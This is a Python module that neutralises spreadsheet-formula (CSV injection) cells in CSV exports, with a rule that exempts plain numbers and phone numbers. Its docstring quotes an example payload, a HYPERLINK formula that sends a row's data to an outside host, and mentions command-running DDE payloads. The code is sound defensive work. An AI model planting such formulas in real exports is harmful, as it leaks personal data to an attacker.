"""CSV cells that a spreadsheet cannot run: the one rule every CSV dos2hl writes goes through.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a TAB, a CR or a LF (after leading spaces) is
read as a formula by Excel, LibreOffice and Google Sheets: ``=HYPERLINK("http://x/?"&A1, "Open")`` in
a patient's name sends the row elsewhere when someone clicks it, and DDE payloads run commands.
Such a cell is *neutralised* (OWASP, "CSV Injection"): prefixed with a single quote ``'`` (a
spreadsheet shows the text, the quote is its text marker) and always wrapped in double quotes.

One exception, the same everywhere: a cell that begins with ``+`` or ``-`` and is a plain number or
phone number (digits, spaces, dots, parentheses and hyphens only, e.g. ``-12.50``,
``+1 (555) 010-0100``) is left as it is. Without a letter, a ``!``, a ``|`` or an operator other than
``-`` such a cell cannot name a function, a cell or another program: it is arithmetic at worst, and
an amount or a phone keeps its true value (in a report a person reads, and in an import package
HighLevel's importer reads).

``neutralise`` is the rule; ``line`` and ``text`` format rows with it (RFC 4180: ``\\n`` line ends,
quotes doubled, a cell quoted when it holds a delimiter, a quote, a line break, or was neutralised).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

__all__ = ["neutralise", "is_risky", "line", "text"]

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9 ().\-]*[0-9][0-9 ().\-]*")
_QUOTE_WHEN = re.compile(r'[",\r\n]')


def is_risky(value: str) -> bool:
    """Whether a spreadsheet would read ``value`` as a formula (see the module's rule)."""
    head = value.lstrip(" ")
    if not head or not head.startswith(_TRIGGERS):
        return False
    return not (head[0] in "+-" and _PLAIN_NUMBER.fullmatch(head.rstrip(" ")) is not None)


def neutralise(value: Any) -> str:
    """``value`` as a cell's text: ``None`` empty, a risky text prefixed with ``'``."""
    s = "" if value is None else str(value)
    return "'" + s if is_risky(s) else s


def _cell(value: Any) -> str:
    s = "" if value is None else str(value)
    risky = is_risky(s)
    if risky:
        s = "'" + s
    if risky or _QUOTE_WHEN.search(s):
        return '"' + s.replace('"', '""') + '"'
    return s


def line(values: Iterable[Any]) -> str:
    """One CSV record (with its ``\\n``), every cell through the rule."""
    return ",".join(_cell(v) for v in values) + "\n"


def text(rows: Iterable[Iterable[Any]]) -> str:
    """Several records (the header is a row like the others)."""
    return "".join(line(r) for r in rows)
